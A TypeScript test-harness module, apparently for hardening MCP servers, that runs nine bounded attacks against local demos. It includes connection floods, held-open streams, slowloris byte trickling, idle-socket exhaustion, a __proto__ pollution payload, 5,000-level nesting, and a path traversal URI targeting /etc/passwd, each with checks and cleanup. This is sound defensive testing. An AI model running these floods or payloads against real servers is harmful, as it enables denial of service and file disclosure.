/**
 * The nine attacks, each against a demo of its own, from 127.0.0.2. Every loop is bounded by a count and by
 * time, and every socket an attack opens is destroyed before it returns (or throws).
 */
import * as http from "node:http"
import * as net from "node:net"
import { setImmediate as yieldNow, setTimeout as sleep } from "node:timers/promises"
import { HOST, initializeParams, isJsonObject, jsonRpcNotification, jsonRpcRequest } from "../../harness/http.js"
import { openFiles } from "../../harness/proc.js"
import {
  ACCEPT_BOTH,
  ATTACKER,
  hasRpcErrorBody,
  modernHeaders,
  modernMeta,
  pool,
  resultOf,
  rpcErrorOf,
  send,
  type Tally
} from "./client.js"
import type { Sizes } from "./options.js"

export interface AttackContext {
  readonly port: number
  readonly sizes: Sizes
  readonly tally: Tally
  readonly log: (message: string) => void
}

/** What an attack reached (rows of its table), and its own checks (7, 8, 9). */
export interface AttackOutcome {
  readonly notes: Array<readonly [string, string]>
  readonly checks: Array<readonly [string, boolean, string]>
}

export interface Attack {
  readonly n: number
  readonly title: string
  readonly run: (ctx: AttackContext) => Promise<AttackOutcome>
}

const MiB = 1024 * 1024
const MAX_BODY = 4 * MiB
const TIMEOUT_MS = 30_000

const post = (ctx: AttackContext, headers: http.OutgoingHttpHeaders, body: string | Buffer, timeoutMs = TIMEOUT_MS) =>
  send({ port: ctx.port, method: "POST", path: "/mcp", agent: false, localAddress: ATTACKER, headers, body, timeoutMs })

/** A session of the given revision: its id, or undefined when initialize was refused (tallied). */
const openSession = async (ctx: AttackContext, version: string, name: string): Promise<string | undefined> => {
  const initialize = await post(
    ctx,
    { "content-type": "application/json", accept: ACCEPT_BOTH },
    jsonRpcRequest(0, "initialize", { ...initializeParams(name), protocolVersion: version })
  )
  const reply = ctx.tally.outcome(initialize)
  const id = reply?.headers["mcp-session-id"]
  if (reply === undefined || reply.status !== 200 || typeof id !== "string") return undefined
  const initialized = await post(
    ctx,
    { "content-type": "application/json", accept: ACCEPT_BOTH, "mcp-session-id": id, "mcp-protocol-version": version },
    jsonRpcNotification("notifications/initialized")
  )
  ctx.tally.outcome(initialized)
  return id
}

/**
 * A request whose response is held open (a listen stream, an SSE stream) until `release` resolves: resolves
 * `held` true once a 200 came, false (tallied) when it was refused or failed. `close` destroys it.
 */
const holdOpen = (
  ctx: AttackContext,
  options: { readonly method: string; readonly path: string; readonly headers: http.OutgoingHttpHeaders; readonly body?: Buffer }
) => {
  let request: http.ClientRequest | undefined
  let closedByServer = false
  const held = new Promise<boolean>((resolve) => {
    let timedOut = false
    let answered = false
    const timer = setTimeout(() => {
      timedOut = true
      ctx.tally.failed("TIMEOUT")
      resolve(false)
      request?.destroy()
    }, TIMEOUT_MS)
    request = http.request({
      host: HOST,
      port: ctx.port,
      method: options.method,
      path: options.path,
      agent: false,
      localAddress: ATTACKER,
      headers: options.body === undefined
        ? options.headers
        : { ...options.headers, "content-length": options.body.length }
    }, (response) => {
      clearTimeout(timer)
      answered = true
      const status = response.statusCode ?? 0
      if (status === 200) {
        // Held: read and drop whatever comes (an acknowledgement, keep-alives).
        response.on("data", () => {})
        response.on("end", () => closedByServer = true)
        response.on("error", () => closedByServer = true)
        resolve(true)
        return
      }
      const chunks: Array<Buffer> = []
      response.on("data", (chunk: Buffer) => chunks.push(chunk))
      const done = () => {
        ctx.tally.reply({ status, headers: response.headers, body: Buffer.concat(chunks).toString("utf8") })
        resolve(false)
      }
      response.on("end", done)
      response.on("error", done)
    })
    request.on("error", (error) => {
      clearTimeout(timer)
      // After a timeout (already tallied) or once held, the error is the destroy's own.
      if (!timedOut && !answered) ctx.tally.failed(error instanceof Error && "code" in error ? String(error.code) : "ERROR")
      resolve(false)
    })
    request.end(options.body)
  })
  return { held, closedByServer: () => closedByServer, close: () => request?.destroy() }
}

/** Holds `count` streams opened by `open`, `concurrency` at a time, then keeps them `holdMs`; destroys them all. */
const holdMany = async (
  ctx: AttackContext,
  count: number,
  concurrency: number,
  holdMs: number,
  deadline: number,
  open: () => ReturnType<typeof holdOpen>
): Promise<{ readonly attempted: number; readonly held: number; readonly closedByServer: number }> => {
  const streams: Array<ReturnType<typeof holdOpen>> = []
  let held = 0
  try {
    const attempted = await pool(count, concurrency, deadline, async () => {
      const stream = open()
      streams.push(stream)
      if (await stream.held) held++
    })
    ctx.log(`holding ${held} of ${attempted} for ${holdMs / 1000} s`)
    await sleep(holdMs)
    return { attempted, held, closedByServer: streams.filter((s) => s.closedByServer()).length }
  } finally {
    for (const stream of streams) stream.close()
  }
}

// --- 1. subscriptions/listen with a 4 MiB filter ------------------------------------------------------------------

/** A listen request whose `resourceSubscriptions` fill the body up to just under 4 MiB, and how many URIs it has. */
const listenBody = (): { readonly body: Buffer; readonly uris: number } => {
  const head = JSON.stringify({
    jsonrpc: "2.0",
    id: 1,
    method: "subscriptions/listen",
    params: { _meta: modernMeta("attacker"), notifications: { resourceSubscriptions: ["__URIS__"] } }
  })
  const [before, after] = head.split("\"__URIS__\"")
  const room = MAX_BODY - 64 - Buffer.byteLength(before!) - Buffer.byteLength(after!)
  const uris: Array<string> = []
  // `"r:000000",` is 11 bytes: about 381,000 of them.
  for (let i = 0, size = 0; size + 12 < room; i++) {
    const uri = JSON.stringify(`r:${String(i).padStart(6, "0")}`)
    uris.push(uri)
    size += uri.length + 1
  }
  return { body: Buffer.from(`${before}${uris.join(",")}${after}`), uris: uris.length }
}

const listenFlood: Attack = {
  n: 1,
  title: "subscriptions/listen filling 4 MiB with resourceSubscriptions, connections held open",
  run: async (ctx) => {
    const { body, uris } = listenBody()
    const { listenConnections, listenHoldSeconds } = ctx.sizes
    const result = await holdMany(
      ctx,
      listenConnections,
      listenConnections,
      listenHoldSeconds * 1000,
      Date.now() + 120_000,
      () =>
        holdOpen(ctx, {
          method: "POST",
          path: "/mcp",
          headers: modernHeaders("subscriptions/listen"),
          body
        })
    )
    return {
      notes: [
        ["listen body", `${(body.length / MiB).toFixed(2)} MiB, ${uris.toLocaleString("en")} URIs`],
        ["connections", `${result.held} held of ${result.attempted} (${listenConnections} asked)`],
        ["streams the server ended early", String(result.closedByServer)]
      ],
      checks: []
    }
  }
}

// --- 2. batches of 256 long sleeps, connection dropped -----------------------------------------------------------

const batchSleeps: Attack = {
  n: 2,
  title: "2025-03-26 sessions each sending a batch of 256 tools/call sleep 600000, then dropping the connection",
  run: async (ctx) => {
    const { batchSessions, batchSize, batchSeconds } = ctx.sizes
    const batch = JSON.stringify(Array.from({ length: batchSize }, (_, i) => ({
      jsonrpc: "2.0",
      id: i + 1,
      method: "tools/call",
      params: { name: "sleep", arguments: { ms: 600_000 } }
    })))
    let sent = 0
    let refusedSessions = 0
    const deadline = Date.now() + batchSeconds * 1000
    const attempted = await pool(batchSessions, 8, deadline, async () => {
      const id = await openSession(ctx, "2025-03-26", "attacker-batch")
      if (id === undefined) {
        refusedSessions++
        return
      }
      // Sent whole, then dropped once the server has answered with its headers (or after 500 ms).
      await new Promise<void>((resolve) => {
        const request = http.request({
          host: HOST,
          port: ctx.port,
          method: "POST",
          path: "/mcp",
          agent: false,
          localAddress: ATTACKER,
          headers: {
            "content-type": "application/json",
            accept: ACCEPT_BOTH,
            "mcp-session-id": id,
            "mcp-protocol-version": "2025-03-26",
            "content-length": Buffer.byteLength(batch)
          }
        })
        const drop = () => {
          clearTimeout(timer)
          request.destroy()
          resolve()
        }
        const timer = setTimeout(drop, 500)
        // Counted once the whole batch is written: the server may not answer before it has run something.
        request.on("finish", () => sent++)
        request.on("response", (response) => {
          const status = response.statusCode ?? 0
          if (status === 200) return drop()
          const chunks: Array<Buffer> = []
          response.on("data", (chunk: Buffer) => chunks.push(chunk))
          response.on("end", () => {
            ctx.tally.reply({ status, headers: response.headers, body: Buffer.concat(chunks).toString("utf8") })
            drop()
          })
        })
        request.on("error", drop)
        request.end(batch)
      })
    })
    return {
      notes: [
        ["sessions", `${attempted} of ${batchSessions} in ${batchSeconds} s; ${refusedSessions} refused at initialize`],
        ["batches sent whole, then dropped", `${sent} (${(sent * batchSize).toLocaleString("en")} sleeping calls)`]
      ],
      checks: []
    }
  }
}

// --- 3. big echoes stored for resumption ---------------------------------------------------------------------------

const bigEchoes: Attack = {
  n: 3,
  title: "echo of 3.9 MiB over SSE (stored for resumption), many posts per session",
  run: async (ctx) => {
    const { echoSessions, echoPosts, echoMiB, echoSeconds } = ctx.sizes
    const text = "A".repeat(Math.floor(echoMiB * MiB) - 512)
    const deadline = Date.now() + echoSeconds * 1000
    let answered = 0
    let bytesBack = 0
    let sessions = 0
    await pool(echoSessions, echoSessions, deadline, async () => {
      const id = await openSession(ctx, "2025-11-25", "attacker-echo")
      if (id === undefined) return
      sessions++
      await pool(echoPosts, 1, deadline, async (i) => {
        const outcome = await post(ctx, {
          "content-type": "application/json",
          accept: "text/event-stream, application/json",
          "mcp-session-id": id,
          "mcp-protocol-version": "2025-11-25"
        }, jsonRpcRequest(i + 1, "tools/call", { name: "echo", arguments: { text } }), 60_000)
        const reply = ctx.tally.outcome(outcome)
        if (reply?.status === 200 && outcome._tag === "Reply") {
          answered++
          bytesBack += outcome.bytes
        }
      })
    })
    return {
      notes: [
        ["sessions", `${sessions} of ${echoSessions}`],
        ["echoes answered", `${answered} of ${echoSessions * echoPosts} (${(bytesBack / MiB).toFixed(0)} MiB back)`],
        ["echo size", `${echoMiB} MiB`]
      ],
      checks: []
    }
  }
}

// --- 4. initialize flood, then idle legacy SSE streams ---------------------------------------------------------------

const initAndSse: Attack = {
  n: 4,
  title: "initialize POSTs as fast as possible (no connection kept), then idle legacy SSE streams held open",
  run: async (ctx) => {
    const { initPosts, sseStreams, sseHoldSeconds } = ctx.sizes
    let initialized = 0
    const started = Date.now()
    const attempted = await pool(initPosts, 64, Date.now() + 120_000, async (i) => {
      const reply = ctx.tally.outcome(await post(
        ctx,
        { "content-type": "application/json", accept: ACCEPT_BOTH },
        jsonRpcRequest(0, "initialize", initializeParams(`attacker-init-${i}`))
      ))
      if (reply?.status === 200) initialized++
    })
    const initSeconds = (Date.now() - started) / 1000
    ctx.log(`${initialized} of ${attempted} initialize answered 200 in ${initSeconds.toFixed(1)} s`)
    const sse = await holdMany(ctx, sseStreams, 200, sseHoldSeconds * 1000, Date.now() + 120_000, () =>
      holdOpen(ctx, { method: "GET", path: "/sse", headers: { accept: "text/event-stream" } }))
    return {
      notes: [
        ["initialize", `${initialized} answered 200 of ${attempted} in ${initSeconds.toFixed(1)} s (${initPosts} asked)`],
        ["SSE streams", `${sse.held} held of ${sse.attempted} (${sseStreams} asked), ${sse.closedByServer} ended by the server`]
      ],
      checks: []
    }
  }
}

// --- 5. bodies sent a byte at a time -----------------------------------------------------------------------------

/** What a raw socket got back: the status line's code and the body, if anything came. */
const parseRaw = (raw: string): { readonly status: number; readonly body: string } | undefined => {
  const match = /^HTTP\/1\.1 (\d{3})/.exec(raw)
  if (match === null) return undefined
  const split = raw.indexOf("\r\n\r\n")
  const rest = split === -1 ? "" : raw.slice(split + 4)
  // Chunked or not: the JSON-RPC body is the text between the first `{` and the last `}`.
  const body = rest.includes("{") ? rest.slice(rest.indexOf("{"), rest.lastIndexOf("}") + 1) : rest
  return { status: Number(match[1]), body }
}

const trickle: Attack = {
  n: 5,
  title: "bodies sent one byte per TCP segment",
  run: async (ctx) => {
    const { trickleConnections, trickleMiB, trickleSeconds } = ctx.sizes
    const perConnection = Math.floor((trickleMiB * MiB) / trickleConnections)
    const text = "B".repeat(Math.max(1, perConnection - 200))
    const bodyText = jsonRpcRequest(1, "tools/call", { name: "echo", arguments: { text }, _meta: modernMeta("attacker") })
    const body = Buffer.from(bodyText)
    const head = [
      "POST /mcp HTTP/1.1",
      `Host: ${HOST}:${ctx.port}`,
      "Content-Type: application/json",
      `Accept: ${ACCEPT_BOTH}`,
      `MCP-Protocol-Version: 2026-07-28`,
      "Mcp-Method: tools/call",
      "Mcp-Name: echo",
      `Content-Length: ${body.length}`,
      "",
      ""
    ].join("\r\n")
    interface Conn {
      readonly socket: net.Socket
      sent: number
      answer: string
      closed: boolean
    }
    const conns: Array<Conn> = []
    try {
      for (let i = 0; i < trickleConnections; i++) {
        const socket = net.connect({ host: HOST, port: ctx.port, localAddress: ATTACKER })
        const conn: Conn = { socket, sent: 0, answer: "", closed: false }
        socket.setNoDelay(true)
        socket.on("data", (chunk: Buffer) => {
          if (conn.answer.length < 64 * 1024) conn.answer += chunk.toString("utf8")
        })
        socket.on("close", () => conn.closed = true)
        socket.on("error", () => conn.closed = true)
        await new Promise<void>((resolve) => {
          socket.once("connect", resolve)
          socket.once("error", () => resolve())
        })
        socket.write(head)
        conns.push(conn)
      }
      const deadline = Date.now() + trickleSeconds * 1000
      let rounds = 0
      while (Date.now() < deadline) {
        let open = 0
        for (const conn of conns) {
          if (conn.closed || conn.answer !== "" || conn.sent >= body.length) continue
          open++
          conn.socket.write(body.subarray(conn.sent, conn.sent + 1))
          conn.sent++
        }
        if (open === 0) break
        // A pause between bytes, so each goes in a segment of its own.
        if (++rounds % 8 === 0) await sleep(1)
        else await yieldNow()
      }
      // Whatever the server answers once the last byte is in.
      await sleep(1_000)
      let complete = 0
      let answered = 0
      for (const conn of conns) {
        if (conn.sent >= body.length) complete++
        const reply = parseRaw(conn.answer)
        if (reply === undefined) {
          if (conn.closed && conn.sent < body.length) ctx.tally.failed("closed mid-body, no status")
          continue
        }
        answered++
        ctx.tally.reply({ status: reply.status, headers: {}, body: reply.body })
      }
      const sent = conns.reduce((total, conn) => total + conn.sent, 0)
      return {
        notes: [
          ["connections", `${conns.length}, ${(perConnection / 1024).toFixed(0)} KiB body each`],
          ["bytes trickled", `${sent.toLocaleString("en")} of ${(body.length * conns.length).toLocaleString("en")} in ${trickleSeconds} s at most`],
          ["bodies complete / answered", `${complete} / ${answered}`]
        ],
        checks: []
      }
    } finally {
      for (const conn of conns) conn.socket.destroy()
    }
  }
}

// --- 6. idle connections -------------------------------------------------------------------------------------

/** File descriptors the attacker leaves free for the probe, /proc reads and the demo's pipes. */
const FD_RESERVE = 256

const idleConnections: Attack = {
  n: 6,
  title: "idle TCP connections (nothing sent), as many as the attacker's own open-file limit allows",
  run: async (ctx) => {
    const { idleConnections: asked, idleHoldSeconds } = ctx.sizes
    const files = openFiles()
    const room = Math.max(0, files.limit - files.open - FD_RESERVE)
    const target = Math.min(asked, room)
    const sockets: Array<net.Socket> = []
    const errors = new Map<string, number>()
    let connected = 0
    let closedByServer = 0
    try {
      const deadline = Date.now() + 120_000
      while (sockets.length < target && Date.now() < deadline && !errors.has("EMFILE")) {
        const batch = Math.min(500, target - sockets.length)
        await Promise.all(Array.from({ length: batch }, () =>
          new Promise<void>((resolve) => {
            const socket = net.connect({ host: HOST, port: ctx.port, localAddress: ATTACKER })
            sockets.push(socket)
            let open = false
            const timer = setTimeout(() => resolve(), 10_000)
            socket.once("connect", () => {
              open = true
              connected++
              clearTimeout(timer)
              resolve()
            })
            socket.on("error", (error) => {
              const code = "code" in error && typeof error.code === "string" ? error.code : "ERROR"
              if (!open) errors.set(code, (errors.get(code) ?? 0) + 1)
              clearTimeout(timer)
              resolve()
            })
            socket.on("close", () => {
              if (open) closedByServer++
            })
          })
        ))
      }
      ctx.log(`${connected} idle connections open (${target} aimed at; limit ${files.limit})`)
      await sleep(idleHoldSeconds * 1000)
      return {
        notes: [
          ["connections", `${connected} open of ${asked} asked (room for ${room} under the attacker's limit of ${files.limit})`],
          ["failed to connect", [...errors].map(([code, n]) => `${n} ${code}`).join(", ") || "none"],
          ["closed by the server while held", String(closedByServer)]
        ],
        checks: []
      }
    } finally {
      for (const socket of sockets) socket.destroy()
    }
  }
}

// --- 7, 8, 9. wrong answers -----------------------------------------------------------------------------------

/** A 2026-07-28 request from the attacker, its body given as raw JSON text (`__proto__`, `1e309` survive). */
const modernRaw = async (ctx: AttackContext, method: string, name: string, paramsJson: string) => {
  const meta = JSON.stringify(modernMeta("attacker"))
  const body = `{"jsonrpc":"2.0","id":1,"method":"${method}","params":${paramsJson.replace(/}$/, `,"_meta":${meta}}`)}}`
  const headerName = /^[\x21-\x7e]*$/.test(name) ? name : undefined
  return ctx.tally.outcome(await post(ctx, modernHeaders(method, headerName), body))
}

const textOf = (result: { readonly [key: string]: unknown } | undefined): string => {
  const content = result?.["content"]
  return Array.isArray(content) ? content.map((c) => isJsonObject(c) ? String(c["text"] ?? "") : "").join("") : ""
}

const describeReply = (reply: { readonly status: number; readonly body: string } | undefined): string =>
  reply === undefined ? "no answer" : `HTTP ${reply.status}: ${reply.body.replace(/\s+/g, " ").slice(0, 160)}`

const protoPollution: Attack = {
  n: 7,
  title: "echo {\"__proto__\":{\"text\":\"INHERITED\"}}",
  run: async (ctx) => {
    const reply = await modernRaw(
      ctx,
      "tools/call",
      "echo",
      `{"name":"echo","arguments":{"__proto__":{"text":"INHERITED"}}}`
    )
    const inherited = reply !== undefined && textOf(resultOf(reply)).includes("INHERITED")
    const error = reply === undefined ? undefined : rpcErrorOf(reply)
    return {
      notes: [["answer", describeReply(reply)]],
      checks: [[
        "the handler does not see INHERITED (-32602, or the key dropped)",
        reply !== undefined && !inherited && (error === undefined || error.code === -32602),
        error === undefined ? (inherited ? "echoed INHERITED" : "no INHERITED") : `error ${error.code}`
      ]]
    }
  }
}

const deepArguments: Attack = {
  n: 8,
  title: "tools/call with arguments nested 5,000 levels deep",
  run: async (ctx) => {
    const depth = ctx.sizes.depth
    const nested = `${"{\"a\":".repeat(depth)}1${"}".repeat(depth)}`
    const reply = await modernRaw(ctx, "tools/call", "echo", `{"name":"echo","arguments":{"text":"deep","nested":${nested}}}`)
    const error = reply === undefined ? undefined : rpcErrorOf(reply)
    return {
      notes: [["depth", String(depth)], ["answer", describeReply(reply)]],
      checks: [[
        "refused with -32602",
        error?.code === -32602,
        error === undefined ? describeReply(reply).slice(0, 80) : `error ${error.code}`
      ]]
    }
  }
}

const numbersAndPaths: Attack = {
  n: 9,
  title: "add with 1e309; resources/read of demo://greetings/..%2F..%2Fetc%2Fpasswd",
  run: async (ctx) => {
    const sum = await modernRaw(ctx, "tools/call", "add", `{"name":"add","arguments":{"a":1e309,"b":1}}`)
    const sumResult = sum === undefined ? undefined : resultOf(sum)
    const structured = sumResult?.["structuredContent"]
    const sumValue = isJsonObject(structured) ? structured["sum"] : undefined
    const nullSum = sumResult !== undefined && sumResult["isError"] !== true && typeof sumValue !== "number"
    const uri = "demo://greetings/..%2F..%2Fetc%2Fpasswd"
    const read = await modernRaw(ctx, "resources/read", uri, JSON.stringify({ uri }))
    const contents = read === undefined ? undefined : resultOf(read)?.["contents"]
    const readText = Array.isArray(contents)
      ? contents.map((c) => isJsonObject(c) ? String(c["text"] ?? "") : "").join("")
      : ""
    const traversed = readText.includes("../")
    return {
      notes: [["add 1e309", describeReply(sum)], ["read", describeReply(read)]],
      checks: [
        ["add 1e309: no {sum: null} in a success", sum !== undefined && !nullSum, nullSum ? `sum ${JSON.stringify(sumValue)}` : "ok"],
        [
          "the traversal is not handed to the handler",
          read !== undefined && !traversed && (read.status < 500) && (read.status < 400 || hasRpcErrorBody(read)),
          traversed ? `handler saw: ${readText.slice(0, 80)}` : "ok"
        ]
      ]
    }
  }
}

export const ATTACKS: ReadonlyArray<Attack> = [
  listenFlood,
  batchSleeps,
  bigEchoes,
  initAndSse,
  trickle,
  idleConnections,
  protoPollution,
  deepArguments,
  numbersAndPaths
]
